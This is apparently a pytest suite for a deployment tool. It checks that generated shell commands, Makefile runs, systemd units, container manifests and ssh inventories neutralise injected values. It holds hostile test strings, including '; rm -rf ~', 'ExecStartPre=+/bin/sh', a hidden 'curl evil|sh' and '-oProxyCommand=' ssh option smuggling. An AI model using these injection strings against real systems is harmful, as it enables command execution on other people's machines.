"""Somebody's words reach a shell, make, ssh or systemd by what an operator copies or exports.

Each form of a command is one command, a value of make is one word, and a host is no option of ssh. Where that cannot
be, there is a sentence and nothing to copy.
"""

import os
import re
import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from archive_factory import config_of
from tokenpeak import paths
from tokenpeak.errors import InventoryError
from tokenpeak.node.machine.words import HIDDEN
from tokenpeak.records import Container, EngineBuild
from tokenpeak.report.blocks.block import Snippets
from tokenpeak.report.blocks.deploy import compose, helm_values, kubernetes, snippets, systemd_unit
from tokenpeak.report.blocks.serving_command import ServingCommand, container_unit, unit_word, unwritable
from tokenpeak.sweep.inventory.nodes import inventory_of
from tokenpeak.vllm.command import paste_command

ODD = (
    "x\r\nExecStartPre=+/bin/sh -c id",
    "x\nprivileged: true",
    "a\u2028b: c",
    'q"\\',
    "'",
    "$HOME ${X:-y} $(Z) `id`",
    "$$(A) $$$(A) $$ $",
    "s/x$$/y/ ($(A))",
    "%n %h",
    "; rm -rf ~",
    "",
    "2g # x",
)


def command(**changes: Any) -> ServingCommand:
    """A command of odd words in every place."""
    words: dict[str, Any] = {
        "program": ("/opt/vllm", "serve"),
        "arguments": ("m", *ODD),
        "env": dict.fromkeys(("A", "B"), "1"),
        "image": "own:1",
        "name": "m",
        "model": "m",
        "folder": None,
        "gpus": 1,
    }
    return ServingCommand(**{**words, **changes})


@pytest.mark.parametrize("word", ODD)
def test_a_word_is_one_word_of_every_manifest(word: str) -> None:
    """As an argument, a variable, an image, a limit, a size or a user it is read as it was."""
    made = Container(shm_size=word or "1g", user=word or "1", limits={"memory": word, "cpuset_cpus": "0", "pids": "7"})
    asked = command(env={"A": word}, arguments=("m", word), image=f"i{word}", container=made)
    service = yaml.safe_load(compose(asked))["services"]["vllm"]
    pod = yaml.safe_load(kubernetes(asked))["spec"]["template"]["spec"]["containers"][0]
    values = yaml.safe_load(helm_values(asked))["servingEngineSpec"]["modelSpec"][0]

    def meant(text: str) -> str:
        assert not re.search(r"(?<!\$)(?:\$\$)*\$(?!\$)", text), "Compose would read a variable"
        return text.replace("$$", "$")

    assert ["m", word] == [meant(each) for each in service["command"]]
    assert {"A": word} == {name: meant(value) for name, value in service["environment"].items()}
    assert (f"i{word}", word or "1g", word or "1") == tuple(
        meant(service[one]) for one in ("image", "shm_size", "user")
    )
    assert (word, "0", 7) == (meant(service["mem_limit"]), service["cpuset"], service["pids_limit"])
    assert {"build"} | service.keys() - {"build", "deploy"} == {
        *("build", "image", "entrypoint", "command", "environment", "ports", "volumes", "shm_size", "user"),
        *("mem_limit", "cpuset", "pids_limit", "restart"),
    }
    assert ["m", word] == [read_by_kubernetes(each) for each in pod["args"]]
    assert word == read_by_kubernetes(pod["env"][0]["value"])
    # The chart copies them into a Deployment.
    assert [word] == [read_by_kubernetes(each) for each in values["vllmConfig"]["extraArgs"]]
    assert word == read_by_kubernetes(values["env"][0]["value"])


def read_by_kubernetes(text: str) -> str:
    """The text as it reaches the process, of a pod whose variables A and Z are defined.

    As the API reference says of `args` and `env`: a reference $(NAME) is expanded and unchanged where the variable is
    not defined, and two dollars become one, so that $$(NAME) is no reference.
    """
    return re.sub(
        r"\$(\$)|\$\(([^()]*)\)",
        lambda one: one[1] or {"A": "pwned", "Z": "pwned"}.get(one[2], one[0]),
        text,
    )


@pytest.mark.parametrize("prefix", "@-:+!|")
def test_a_program_is_no_order_to_systemd(prefix: str) -> None:
    """`ExecStart=+/x` runs as root and `ExecStart=|/x` in a shell, in quotes too: no such unit is offered."""
    assert unwritable(command(arguments=("m",))) is None
    assert f"begins with {prefix}" in str(
        unwritable(command(arguments=("m",), program=(f"{prefix}/opt/vllm", "serve")))
    )


@pytest.mark.parametrize("word", ODD)
def test_a_word_is_one_word_of_a_unit(word: str) -> None:
    """No character of it ends the line or the word, and systemd reads back what it was."""
    text = unit_word(word)

    assert text.isprintable()
    assert word == read_by_systemd(text).replace("$$", "$").replace("%%", "%")
    assert word == read_by_systemd(unit_word(word, "")).replace("%%", "%")
    for unit in (systemd_unit, container_unit):
        lines = unit(command(arguments=("m", word), env={"A": word})).split("\n")
        assert ["ExecStart"] == [key for key in (line.partition("=")[0] for line in lines) if key == "ExecStart"]
        assert not any(HIDDEN.search(line) or "ExecStartPre=+" in line.partition('"')[0] for line in lines)


def read_by_systemd(text: str) -> str:
    """The word between its quotes, as systemd.service(5) and systemd.syntax(7) say; it has to be one word."""
    assert text
    if not text.startswith('"'):
        assert not set(text) & set(" \t\"'\\;")
        return text
    found = re.fullmatch(r'"((?:[^"\\]|\\["\\]|\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|\\U[0-9a-f]{8})*)"', text)
    assert found is not None
    escape = re.compile(r'\\(?:(["\\])|x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8}))')
    return escape.sub(lambda one: one[1] or chr(int(one[2] or one[3] or one[4], 16)), found[1])


def test_a_variable_s_name_runs_nothing_in_a_shell(tmp_path: Path) -> None:
    """A name that a shell would read as a command is a word of `env`."""
    canary = tmp_path / "canary"
    config = config_of({}).model_copy(update={"env": {f"A=1;touch {canary};B": "2", "C": "3 $(id)"}})
    subprocess.run(["sh", "-c", paste_command(config, ("true",))], check=False, capture_output=True)

    assert not canary.exists()


@pytest.mark.parametrize(
    "build",
    [
        {"image": "own:1\r\nExecStartPre=+/bin/sh"},
        {"image": "--privileged"},
        {"image": "own:1", "container": {"mounts": ["/etc"]}},
        {"image": "own:1", "container": {"user": "1\u202e0"}},
    ],
)
def test_nothing_is_offered_that_is_not_what_it_looks_like(build: Mapping[str, Any]) -> None:
    """A sentence stands there instead, and no page fails."""
    made = EngineBuild(name="box", image=build["image"], container=Container(**build.get("container", {})))
    found = snippets(config_of({}), gpus=1, engine_version="0.32.0", launched=["vllm", "serve", "m"], build=made)
    hidden = config_of({"chat_template": "x\x1b[201~\rcurl evil|sh"})
    shown = snippets(hidden, gpus=1, engine_version="0.32.0", launched=["vllm", "serve", "m"])

    assert not isinstance(found, Snippets)
    assert not isinstance(shown, Snippets)


MAKEFILE = (paths.ROOT / "Makefile").read_text()
READ = MAKEFILE.replace("\\\n", " ")
VARIABLES = {
    kind: re.findall(rf"^{kind} := (.*)$", READ, re.MULTILINE)[0].split() for kind in ("VALUES", "LISTS", "ACTS")
}
OWN = {"BIN", "CURDIR", "LISTS", "ACTS", "VALUES", "MAKEFILE_LIST", "PYTHON", "READY", "TOKENPEAK", "UV", "VENV"}
"""The Makefile's own. PYTHON is a program to run by its meaning."""
NEEDS_MORE = {"check", "clean", "lock", "notebook", "wheel"}
"""Targets that take none of these variables and whose programs are not played here."""
TARGETS = sorted({*re.findall(r"^\.PHONY: (\S+)$", MAKEFILE, re.MULTILINE)} - NEEDS_MORE)
HOSTILE = [
    "; touch taken; `touch taken` $(touch taken) ' ; touch taken; '\" & touch taken | touch taken # \\",
    "$(shell touch taken)${shell touch taken}$(eval x:=$(shell touch taken))$(error taken)",
    "x\ntouch taken",
    "~/*; touch taken",
]
PLAYED = """#!/bin/sh
printf '%s\\n' "${0##*/}" "$@" >> words
"""


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A folder with the Makefile, whose environment is there and whose programs note the words that they get."""
    shutil.copy(paths.ROOT / "Makefile", tmp_path)
    for name in ("requirements.lock", "pyproject.toml", "notebooks/requirements.lock"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).touch()
    for name in (".tokenpeak/locked-uv/bin/uv", ".venv/.ready", ".venv/.jupyter"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).touch()
    (tmp_path / ".venv" / "bin").mkdir()
    for name in ("tokenpeak", "pytest", "python"):
        (tmp_path / ".venv" / "bin" / name).write_text(PLAYED)
        (tmp_path / ".venv" / "bin" / name).chmod(0o755)
    return tmp_path


def made(checkout: Path, *words: str, **variables: str) -> "subprocess.CompletedProcess[str]":
    """How make ended there, in an environment with these variables."""
    own = {name: os.environ[name] for name in ("PATH", "LANG") if name in os.environ}
    argv = ["make", "--no-print-directory", *words]
    environment = {**own, "HOME": str(checkout / "home"), **variables}
    return subprocess.run(argv, cwd=checkout, env=environment, capture_output=True, text=True, check=False)


def given(hostile: str) -> dict[str, str]:
    """Each variable with its hostile value, which begins with the variable's name."""
    return {name: f"{name}{hostile}" for kind in ("VALUES", "LISTS") for name in VARIABLES[kind]}


@pytest.mark.parametrize("hostile", HOSTILE, ids=["shell", "make", "line end", "pattern"])
@pytest.mark.parametrize("way", ["typed", "exported"])
def test_a_value_is_a_word(checkout: Path, hostile: str, way: str) -> None:
    """Of every target, typed or exported: no command is run, and each word is whole behind its option."""
    variables = given(hostile)
    typed = [f"{name}={text}" for name, text in variables.items()] if way == "typed" else ["INVENTORY=x", "DEST=x"]

    done = made(checkout, *TARGETS, *typed, **({} if way == "typed" else variables))

    assert not (checkout / "taken").exists(), done
    assert 0 == done.returncode, done.stderr
    words = (checkout / "words").read_text().splitlines()
    whole = {variables[name].replace("\n", " ") for name in VARIABLES["VALUES"]}
    parts = {part for name in VARIABLES["LISTS"] for part in variables[name].split()}
    odd = [word for word in words if re.search("touch|taken|[;`]", word)]
    assert len(odd) > 20
    assert [] == [word for word in odd if not {word, word.partition("=")[2]} & (whole | parts)]
    assert (
        "INVENTORY=x" in done.stdout if way == "exported" else variables["INVENTORY"].replace("\n", " ") in done.stdout
    )


def test_nothing_exported_lets_a_target_act(checkout: Path) -> None:
    """Neither an apply nor a rollback is done, nothing changed, let go or published; typed, they are."""
    acting = dict.fromkeys(VARIABLES["ACTS"], "1")
    targets = ["apply", "rollback", "restore", "install"]
    exported = made(checkout, *targets, SWEEP_ID="s", **acting)
    before = (checkout / "words").read_text().splitlines()
    nowhere = made(checkout, "publish", **acting)
    made(checkout, *targets, "publish", "SWEEP_ID=s", *(f"{name}={text}" for name, text in acting.items()))
    after = (checkout / "words").read_text().splitlines()[len(before) :]

    assert 0 == exported.returncode, exported.stderr
    assert "Say where to" in nowhere.stderr
    options = {"--yes", "--accept", "--release", "--rotate"}
    assert set() == options & {*before}
    assert options <= {*after}


def test_no_other_variable_is_read() -> None:
    """Each variable that a target reads is one of those that are made text above it, or the Makefile's own."""
    read = {*re.findall(r"(?<!\$)\$\(([A-Z][A-Z0-9_]*)[:)]", MAKEFILE)}

    assert set() == read - OWN - {*VARIABLES["VALUES"], *VARIABLES["LISTS"]}
    assert set() == {*VARIABLES["ACTS"]} - {*VARIABLES["VALUES"], *VARIABLES["LISTS"]}


def answer(name: str, **variables: Any) -> Any:
    """What the resolver says of one host."""
    return {"groups": {name: ["all"]}, "variables": {name: variables}, "failures": {}, "texts": {}}


@pytest.mark.parametrize(
    ("name", "variables"),
    [
        ("gpu-1", {"ansible_host": "-oProxyCommand=touch /tmp/x"}),
        ("gpu-1", {"ansible_host": "gpu-1\n-oProxyCommand=x"}),
        ("gpu-1", {"ansible_user": "-F/tmp/x"}),
        ("-oProxyCommand=x", {}),
        ("gpu-1\u202e", {}),
    ],
)
def test_a_host_is_no_option_of_ssh(name: str, variables: dict[str, Any]) -> None:
    """The inventory is refused with a sentence of one line that names the host."""
    with pytest.raises(InventoryError, match="ssh would take for an option") as refused:
        inventory_of("mine", Path("mine/hosts.yml"), answer(name, **variables))

    assert str(refused.value).isprintable()
